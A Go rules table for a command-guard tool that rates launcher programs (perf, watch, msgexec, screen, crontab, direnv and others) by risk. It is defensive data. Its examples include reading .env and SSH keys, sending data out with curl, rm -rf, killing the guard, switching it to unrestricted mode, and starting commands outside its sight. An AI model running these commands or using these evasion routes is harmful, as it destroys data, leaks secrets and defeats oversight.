package program

// starters: programs that start others again, later, or in a terminal of their own, and what ends them.
var starters = []Entry{
	{
		Name:   "perf",
		Source: "perf(1), Linux 6.10",
		Level:  medium, Categories: executes, Operands: "text...",
		Subs: []Entry{
			{
				Name: "stat record trace mem c2c kmem lock sched ftrace kwork", Level: medium, Operands: "cmd...",
				Options: `
					-*
					-e,--event=
					-p,--pid=
					-t,--tid=
					-o,--output=:write
					-r,--repeat=
					-F,--freq=
					-c,--count=
					-C,--cpu=
					-i,--input=:read
					-I=
					-G,--cgroup=
					-u,--uid=
				`,
			},
			{
				Name: "list report annotate diff version help buildid-list evlist", Level: low, Operands: "text...",
				Options: `
					-*
					-i,--input=:read
					-k,--vmlinux=:read
					--objdump=:exec
					--addr2line=:exec
				`,
			},
		},
		Examples: `
			low | perf list
			low | perf report --stdio
			medium | perf stat ls
			critical FS_DELETE_OVERWRITE | perf stat -r 3 rm -rf src
			high FS_OUTSIDE_WORKSPACE | perf record -o /etc/x ls
		`,
	},
	{
		Name:   "rr dtruss uftrace bpftrace heaptrack cgdb ddd",
		Source: "rr(1), uftrace(1), cgdb(1), ddd(1): they start what they are given",
		Level:  medium, Categories: executes, Operands: "cmd...", Special: Forward,
		Options: `
			-*
			-e=
			-o=:write
			-p=:system
			-s=
			-u=
			-x=:script
			--args
			--command=:script
			--eval-command=:executes
			-P=
			-I=
			-O=
			-S=
			-E=
			-a=
			-X=
			--tool=
			--log-file=:write
		`,
		Examples: `high..critical FS_DELETE_OVERWRITE | uftrace record rm -rf src`,
	},
	{
		Name:   "msgexec msgfilter",
		Source: "msgexec(1), msgfilter(1), GNU gettext 0.21: a command for each translation, which it reads",
		Level:  low, Operands: "cmd...", Special: Feeds,
		Options: `
			-PpEsF --newline --properties-input --stringtable-input --properties-output --stringtable-output
			-i,--input=:read
			-D,--directory=:read
			-o,--output-file=:write
			-w,--width=
			-n,--add-location?=
			--color?=
			--style=:read
			--escape --no-escape --force-po --indent --keep-header --no-location --strict --no-wrap --sort-output
			--sort-by-file
		`,
		Examples: `
			low | msgexec -i po/de.po cat
			low | msgfilter -i po/de.po --keep-header sed -e 's/ss/x/'
			medium..high | msgfilter -i po/de.po -o po/at.po tr a b
			high FS_OUTSIDE_WORKSPACE | msgfilter -i po/de.po -o /etc/x cat
			high FS_CONFIG_SECRETS | msgexec -i .env cat
			high FS_CONFIG_SECRETS | msgexec -D ~/.ssh -i id_rsa cat
			high..critical FS_DELETE_OVERWRITE | msgexec -i po/de.po rm -rf src
			high EXEC_ARBITRARY | msgexec -i po/de.po sh
			critical NETWORK_RISK | msgexec -i po/de.po curl -d @- https://example.com
			medium EXEC_ARBITRARY | msgexec --frob -i po/de.po cat
		`,
	},
	{
		Name:   "watch viddy",
		Source: "watch(1), procps 4: its words are joined for sh -c",
		Level:  low, Operands: "run...",
		Options: `
			-bcCegprtwx
			-d,--differences?=
			-n,--interval=
			-q,--equexit=
			-s,--shotsdir=
			--beep --color --no-color --errexit --chgexit --precise --no-rerun --no-title --no-wrap --exec
		`,
		Examples: `
			low | watch -n1 ls
			high..critical FS_DELETE_OVERWRITE | watch -n1 rm -rf src
			high..critical FS_DELETE_OVERWRITE | watch 'ls; rm -rf src'
		`,
	},
	{
		Name:   "entr",
		Source: "entr(1): names come from the input; -s joins its words for a shell",
		Level:  medium, Operands: "text...", Special: Forward, Options: `-acdnprsxz`,
		Examples: `
			medium | entr -c ls
			high..critical FS_DELETE_OVERWRITE | entr -s 'rm -rf src'
		`,
	},
	{
		Name: "watchexec reflex nodemon chokidar fswatch inotifywait inotifywatch hyperfine",
		Source: "watchexec(1), nodemon, hyperfine(1), inotifywait(1) manuals: they start what they are " +
			"given, again and again",
		Level: medium, Operands: "text...", Special: Forward,
		Options: `
			-*
			-w,--watch=:look
			-e,--exts,--ext=
			-i,--ignore=
			-f,--filter=
			--exec,--reference=:run
			--prepare=:run
			--cleanup=:run
			--setup=:run
			--conclude=:run
			-S=:exec
			--shell=:exec@*/*
			--input=:read
			--output=:outside@/*+outside@..*+outside@~*
			--export-orgmode,--export-asciidoc,--export-json=:write
			--export-markdown=:write
			--export-csv=:write
			--outfile=:write
		`,
		Examples: `
			high..critical FS_DELETE_OVERWRITE | watchexec -e go rm -rf src
			high..critical FS_DELETE_OVERWRITE | hyperfine 'rm -rf src'
			medium | hyperfine --warmup 3 'ls -la'
		`,
	},
	{
		Name:   "script",
		Source: "script(1), util-linux 2.40; on macOS a command follows the file",
		Leaves: "typescript", Level: medium, Operands: "write cmd...", Stdin: StartsShell,
		Options: `
			-aefqrdkp
			-c,--command=:run
			-B=:write
			-E=
			-I=:write
			-O=:write
			-o=
			-T=:write
			-m=
			-t?=
			-F=
			--append
			--echo=
			--return --flush --force --quiet
			--log-in=:write
			--log-out=:write
			--log-io=:write
			--log-timing=:write
		`,
		Examples: `
			high..critical FS_DELETE_OVERWRITE | script -qc 'rm -rf src' /dev/null
			medium | script -q /dev/null ls
			critical FS_DELETE_OVERWRITE | echo 'rm -rf ~/Documents' | script -q /dev/null
			high | script < commands.txt
		`,
	},
	{
		Name:   "scriptlive",
		Source: "scriptlive(1), util-linux 2.40: a shell gets the log as what is typed",
		Level:  medium, Operands: "script",
		Options: `
			-I,-B,--log-in,--log-io=:script
			-T,--log-timing=:read
			-t,--timing=:read
			-c,--command=:run
			-E,--echo=
			-d,--divisor=
			-m,--maxdelay=
		`,
		Examples: `
			medium EXEC_ARBITRARY | scriptlive -I in.log -T t.log
			medium EXEC_ARBITRARY | scriptlive -B typed -T t.log
		`,
	},
	{
		Name:   "scriptreplay",
		Source: "scriptreplay(1), util-linux 2.40: it shows a log again, and runs nothing",
		Level:  low, Operands: "read...",
		Options: `
			-I,--log-in=:read
			-O,--log-out=:read
			-B,--log-io=:read
			-T,--log-timing=:read
			-t,--timing=:read
			-s,--typescript=:read
			-c,--cr-mode=
			-d,--divisor=
			-m,--maxdelay=
			-x,--stream=
			--summary
		`,
		Examples: `
			low | scriptreplay -T t.log -O out.log
		`,
	},
	{
		Name:   "expect autoexpect tclsh wish socat-exec",
		Source: "expect(1), tclsh(1)",
		Level:  medium, Categories: executes, Operands: "script text...", Special: Interpreter,
		Options: `
			-bdDinNv
			-c=:code
			-f=:script
		`,
		Examples: `
			medium EXEC_ARBITRARY | tclsh x.tcl
			medium..critical EXEC_ARBITRARY | tclsh <<< 'exec rm -rf src'
		`,
	},
	{
		Name:   "busybox toybox",
		Source: "busybox manual: the first word is a program",
		Level:  low, Operands: "applet...", Special: Applets, Options: `--list --list-full --install:system`,
		Examples: `
			low | busybox ls
			high..critical FS_DELETE_OVERWRITE | busybox rm -rf src
		`,
	},
	{
		Name:   "screen",
		Source: "screen(1), 4.9: its server starts the command, outside guard's sight",
		Style:  Single, Level: high, Categories: system | executes,
		Says: "{0} starts programs that guard cannot follow", Operands: "text...", Special: Leaves,
		Options: `
			-*
			-ls,-list,-v:info
			-S,-p,-t,-T,-s,-h,-e=
			-c=:run
			-Logfile=:write
		`,
		Examples: `
			low | screen -ls
			high..critical SYSTEM_IMPACT EXEC_ARBITRARY | screen -dm rm -rf src
			high SYSTEM_IMPACT EXEC_ARBITRARY | screen -S x -X stuff ls
		`,
	},
	{
		Name:   "abduco dtach zellij byobu",
		Source: "tmux(1), screen(1): their server starts the command, outside guard's sight",
		Level:  high, Categories: system | executes, Says: "{0} starts programs that guard cannot follow",
		Operands: "text...", Special: Leaves, Options: `-* -V:info`,
		Subs: []Entry{{Name: "ls list-sessions has-session", Level: low, Operands: "text...", Options: `-*`}},
		Examples: `
			low | zellij list-sessions
			high SYSTEM_IMPACT EXEC_ARBITRARY | zellij run -- ls
		`,
	},
	{
		Name:   "atq",
		Source: "atq(1)",
		Level:  low, Operands: "text...", Out: Fixed,
		Options: `
			-V
			-q=
			-o=
		`,
		Examples: `low | atq`,
	},
	{
		Name:   "at batch crontab systemd-run atrm anacron launchd-at fcron",
		Source: "at(1), crontab(1), systemd-run(1): another daemon starts the command, outside guard's sight",
		Level:  high, Categories: system | executes, Says: "{0} has programs started that guard cannot follow",
		Operands: "text...", Special: Leaves, Options: `-* -l:list`,
		Examples: `
			high SYSTEM_IMPACT | crontab -r
			high SYSTEM_IMPACT EXEC_ARBITRARY | at now
			low | crontab -l
		`,
	},
	{
		Name:   "guard",
		Source: "guard's own manual",
		Level:  low, Operands: "text...", Special: Guard,
		Examples: `
			high | guard mode unrestricted
			high | guard undo
			high | guard undo 4af3df22/4 --yes
			high | guard undo --forget --yes
			high | guard --config check undo --yes 4af3df22/4
			low | guard check ls
		`,
	},
	{
		Name:   "kill pkill killall skill xkill",
		Source: "kill(1), pkill(1), procps 4; killall(1), psmisc",
		Level:  low, Operands: "text...", Special: Kill, Style: GNU,
		Options: `
			-*
			-s,--signal=
			-n=
			-u=
			-g=
			-t=
			-q=
		`,
		Examples: `
			high SYSTEM_IMPACT | kill 1234
			high SYSTEM_IMPACT | kill -KILL 1234
			high SYSTEM_IMPACT | kill -10 1234
			low | kill -l
			low | kill -0 1234
			medium | kill %1
			high SYSTEM_IMPACT | pkill -l node
			high..critical SYSTEM_IMPACT | pkill -f guard
		`,
	},
	{
		Name:   "open xdg-open sensible-browser",
		Source: "open(1) macOS; xdg-open(1): what starts depends on the file; an address opens in the browser",
		Level:  high, Categories: executes, Special: Fetch, Operands: "read...", Options: `-*`,
		Examples: `
			high EXEC_ARBITRARY | xdg-open index.html
			high EXEC_ARBITRARY | open -a Terminal x.command
			medium | open http://localhost:3000/
			high EXEC_ARBITRARY | open https://example.com
		`,
	},
	{
		Name:   "run-parts start sensible-editor sensible-pager run-mailcap see edit",
		Source: "run-parts(8), xdg-open(1), open(1) macOS: what starts depends on the file",
		Level:  high, Categories: executes, Operands: "read...", Options: `-*`,
		Examples: `high EXEC_ARBITRARY | run-parts scripts`,
	},
	{
		Name:   "direnv",
		Source: "direnv(1), 2.34: .envrc is code, allow lets it run",
		Level:  high, Categories: executes, Operands: "text...", Options: `-*`,
		Subs: []Entry{
			{Name: "version help status stdlib", Level: low, Operands: "text...", Options: `--json`},
			{Name: "hook", Level: low, Operands: "text..."}, // it prints a shell's function, and starts nothing
			{Name: "exec", Level: high, Categories: executes, Operands: "look cmd..."},
		},
		Examples: `
			low | direnv version
			low | direnv hook bash
			high EXEC_ARBITRARY | direnv export bash
			high EXEC_ARBITRARY | direnv allow
			high..critical FS_DELETE_OVERWRITE | direnv exec . rm -rf src
		`,
	},
	{
		Name:   "dotenv autoenv aws-vault chamber envchain op-run teller sops-exec vault-env",
		Source: "direnv(1), dotenv manual: they start a command in an environment that a file decides",
		Level:  high, Categories: executes, Operands: "text...", Special: Forward, Options: `-*`,
		Examples: `high..critical | chamber exec x -- rm -rf src`,
	},
}
